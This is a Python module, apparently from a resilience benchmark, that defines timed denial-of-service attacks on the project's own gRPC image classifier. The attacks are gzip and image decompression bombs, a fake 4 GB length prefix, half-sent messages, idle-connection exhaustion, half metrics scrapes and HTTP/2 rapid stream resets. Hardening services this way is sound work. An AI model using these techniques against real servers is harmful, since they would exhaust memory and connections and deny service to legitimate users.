"""Owns the attacks by name, each a function that ends by itself and returns what the attacker got, in words."""

from __future__ import annotations

import contextlib
import io
import socket
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial

from PIL import Image

from bench.attacks import victims
from bench.processes import CLASSIFY
from bench.raw_http2 import Place, RawConnection
from covey_load.wire.frames import length_prefixed
from covey_proto.v1.classifier_pb2 import ClassifyRequest, EncodedImages, Pixels

HEALTH = "/grpc.health.v1.Health/Check"
_MIB = 1 << 20


@dataclass(frozen=True)
class Target:
    """What is attacked. `seconds` bounds each attack."""

    grpc: Place
    metrics: Place
    http: Place
    seconds: float
    headers: tuple[tuple[str, str], ...] = ()  # of every call; a token, where the attacker has one


@dataclass(frozen=True)
class Attack:
    """`model` is the one that innocent callers use meanwhile; `others` are models that the attacker needs beside it."""

    run: Callable[[Target], str]
    model: str = "small"
    others: tuple[str, ...] = ()
    tokens: bool = False  # whether the server wants tokens, and the attacker has none
    soft_files: int = 0
    min_seconds: float = 0.0  # that it needs to show anything


def image_bombs(target: Target) -> str:
    """Four lossless WebPs of a few bytes and four RGBA PNGs, 50 million pixels each, at once."""
    files = [image_bomb("WEBP", lossless=True), image_bomb("PNG")]
    calls = [_message(ClassifyRequest(encoded=EncodedImages(images=[file]))) for file in files * 4]
    return _together([partial(_one_body, target, CLASSIFY, call) for call in calls])


def gzip_classify(target: Target) -> str:
    """One message of 1 MB that unfolds to 1 GB."""
    return _one_body(target, CLASSIFY, gzip_bomb(), encoding="gzip")


def gzip_health(target: Target) -> str:
    """The same to grpc.health.v1, which asks for no token."""
    return _one_body(target, HEALTH, gzip_bomb(), encoding="gzip")


def long_prefix(target: Target) -> str:
    """A message said to have 4 GB, of which 487 MB are sent."""
    with RawConnection(target.grpc) as connection:
        stream = connection.call(CLASSIFY, target.headers)
        sent = connection.body(stream, struct.pack(">BI", 0, 2**32 - 1), end=False)
        chunk = bytes(8 * _MIB)
        give_up = time.monotonic() + target.seconds
        while sent < 487 * _MIB and not connection.closed and not connection.statuses and time.monotonic() < give_up:
            sent += connection.body(stream, chunk, end=False, give_up_s=2.0)
        connection.read(1.0)
        return f"{sent / _MIB:,.0f} MB taken, {_outcome_text(connection)}"


def half_sent(target: Target) -> str:
    """64 connections that each send 60 MB of a message, and then wait."""
    chunk = bytes(_MIB)
    total = 0
    connections: list[RawConnection] = []
    give_up = time.monotonic() + target.seconds
    while len(connections) < 64 and time.monotonic() < give_up:
        connection = RawConnection(target.grpc)
        connections.append(connection)
        stream = connection.call(CLASSIFY, target.headers)
        sent = connection.body(stream, struct.pack(">BI", 0, 62 * _MIB), end=False)
        while sent < 60 * _MIB and (sent_bytes := connection.body(stream, chunk, end=False, give_up_s=0.5)):
            sent += sent_bytes
        total += sent
    time.sleep(3.0)
    outcomes = Counter(map(_outcome_text, connections))
    for connection in connections:
        connection.close()
    return f"{total / _MIB:,.0f} MB taken; {counted(outcomes)}"


def unread_answers(target: Target) -> str:
    """400 requests with 100,000 classes each, whose answers are never read."""
    body = _message(ClassifyRequest(model="wide", top_k=victims.WIDE_CLASSES, pixels=Pixels(data=victims.image(2))))
    with RawConnection(target.grpc, window_bytes=0) as connection:
        for _ in range(400):
            connection.body(connection.call(CLASSIFY, target.headers), body)
        connection.wait_for_answers(400, target.seconds)
        return _outcome_text(connection)


def silent_connections(target: Target) -> str:
    """1,004 connections that send nothing, to a server that was started with a soft limit of 1,024 files."""
    return idle(target, target.grpc, 1_004, b"", lambda: f"; a newcomer gets {_newcomer(target)}")


def half_scrapes(target: Target) -> str:
    """300 half requests to the metrics port."""
    return idle(target, target.metrics, 300, b"GET /metrics HTTP/1.1\r\nHost: x\r\n", lambda: "")


def resets(target: Target) -> str:
    """20,000 calls that are reset at once, on as many connections as it takes."""
    body = _message(ClassifyRequest(pixels=Pixels(data=victims.image(3))))
    sent = connections = 0
    endings: Counter[str] = Counter()
    give_up = time.monotonic() + target.seconds
    while sent < 20_000 and connections < 500 and time.monotonic() < give_up:
        connections += 1
        with RawConnection(target.grpc) as connection:
            while sent < 20_000 and not connection.closed:
                stream = connection.call(CLASSIFY, target.headers)
                connection.body(stream, body, give_up_s=0.2)
                connection.reset(stream)
                sent += 1
            endings[connection.closed or "kept"] += 1
    return f"{sent:,} calls on {connections} connections; {counted(endings)}"


def failing_model(target: Target) -> str:
    """One caller, 8 calls in flight, whose images make the model fail; the innocent call the same model."""
    return _repeated(target, "faulty", victims.image(4, guilty=True), 8)


def slow_run(target: Target) -> str:
    """A caller whose image takes seconds on a model that is usually quick; the innocent call another model."""
    quick = _message(ClassifyRequest(model="slow", pixels=Pixels(data=victims.image(5))))
    slow = _message(ClassifyRequest(model="slow", pixels=Pixels(data=victims.image(5, guilty=True))))
    give_up = time.monotonic() + target.seconds
    count = 0
    with RawConnection(target.grpc) as connection:
        while time.monotonic() < give_up and not connection.closed:
            for body in (quick, quick, quick, slow):
                connection.body(connection.call(CLASSIFY, target.headers), body)
                count += 1
                connection.wait_for_answers(count, 10.0)
        return _outcome_text(connection)


def bulk_callers(target: Target) -> str:
    """Two callers that keep two calls of 16 MB in flight each; the innocent call the same model."""
    big = victims.image(6) * (16 * _MIB // (victims.SIDE * victims.SIDE))
    return _repeated(target, "small", big, 2, callers=2)


ATTACKS = {
    "image bombs": Attack(image_bombs),
    "gzip to Classify": Attack(gzip_classify),
    "gzip to Classify, no token": Attack(gzip_classify, tokens=True),
    "gzip to Health, no token": Attack(gzip_health, tokens=True),
    "4 GB prefix, no token": Attack(long_prefix, tokens=True),
    "4 GB prefix": Attack(long_prefix),
    "64 half messages": Attack(half_sent),
    "64 half messages, no token": Attack(half_sent, tokens=True),
    "unread answers": Attack(unread_answers, others=("wide",)),
    "silent connections": Attack(silent_connections, soft_files=1024),
    "300 half scrapes": Attack(half_scrapes),
    "resets": Attack(resets),
    "failing model": Attack(failing_model, model="faulty"),
    "slow run": Attack(slow_run, others=("slow",)),
    "bulk callers": Attack(bulk_callers),
}


def idle(target: Target, place: Place, count: int, first: bytes, and_then: Callable[[], str]) -> str:
    """Connections that say `first` and no more, and how many of them the server closes."""
    sockets: list[socket.socket] = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            connected = socket.create_connection((place.host, place.port), 2.0)
            sockets.append(connected)
            connected.sendall(first)
    time.sleep(target.seconds)
    also = and_then()
    closed = sum(map(_is_closed, sockets))
    for connection in sockets:
        connection.close()
    return (
        f"{len(sockets)} connected, {count - len(sockets)} refused, {closed} closed by the server within "
        f"{target.seconds:.0f} s{also}"
    )


def _newcomer(target: Target) -> str:
    """The outcome of a call on a new connection, within two seconds."""
    body = _message(ClassifyRequest(pixels=Pixels(data=victims.image(8))))
    began = time.monotonic()
    with RawConnection(target.grpc) as connection:
        connection.body(connection.call(CLASSIFY, target.headers), body, give_up_s=2.0)
        connection.wait_for_answers(1, 2.0)
        return f"{_outcome_text(connection)} after {(time.monotonic() - began) * 1000:.0f} ms"


def _one_body(target: Target, path: str, body: bytes, encoding: str = "") -> str:
    """The outcome of one call; `encoding` is the compression of its message, if any."""
    headers = (("grpc-encoding", encoding), *target.headers) if encoding else target.headers
    with RawConnection(target.grpc) as connection:
        connection.body(connection.call(path, headers), struct.pack(">BI", 1, len(body)) + body if encoding else body)
        connection.wait_for_answers(1, target.seconds)
        return _outcome_text(connection)


def _together(calls: Iterable[Callable[[], str]]) -> str:
    """The outcomes of calls at the same time, each on a thread of its own."""
    waiting = list(calls)
    with ThreadPoolExecutor(len(waiting)) as pool:
        return counted(Counter(pool.map(lambda call: call(), waiting)))


def _repeated(target: Target, model: str, image: bytes, in_flight: int, callers: int = 1) -> str:
    """The outcomes of closed loops until the time is over, each on a connection of its own."""
    body = _message(ClassifyRequest(model=model, pixels=Pixels(data=image)))
    outcomes: Counter[str] = Counter()

    def call(_: int) -> None:
        give_up = time.monotonic() + target.seconds
        sent = 0
        with RawConnection(target.grpc) as connection:
            while time.monotonic() < give_up and not connection.closed:
                while sent - len(connection.statuses) < in_flight:
                    connection.body(connection.call(CLASSIFY, target.headers), body)
                    sent += 1
                connection.read(0.05)
            outcomes.update(connection.statuses)
            if connection.closed:
                outcomes[connection.closed] += 1

    with ThreadPoolExecutor(callers) as pool:
        list(pool.map(call, range(callers)))
    return counted(outcomes)


def _outcome_text(connection: RawConnection) -> str:
    connection.read(0.0)
    outcomes = Counter(connection.statuses)
    if connection.closed:
        outcomes[connection.closed] += 1
    return counted(outcomes)


def counted(outcomes: Counter[str]) -> str:
    return (
        ", ".join(f"{count:,} x {name}" if count > 1 else name for name, count in outcomes.most_common(4))
        or "no answer"
    )


def _is_closed(connected: socket.socket) -> bool:
    connected.setblocking(False)
    try:
        while data := connected.recv(4096):
            del data
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


def _message(request: ClassifyRequest) -> bytes:
    """A request as it stands in DATA frames."""
    return length_prefixed(request.SerializeToString())


def image_bomb(kind: str, *, lossless: bool = False) -> bytes:
    """A file of 7,070 x 7,070 pixels of one colour."""
    file = io.BytesIO()
    options = {"lossless": True} if lossless else {}
    Image.new("RGBA", (7070, 7070), (10, 20, 30, 255)).save(file, kind, **options)
    return file.getvalue()


def gzip_bomb() -> bytes:
    """1 MB of gzip that unfolds to 1 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(16 * _MIB)
    return b"".join([*(packer.compress(zeros) for _ in range(64)), packer.flush()])
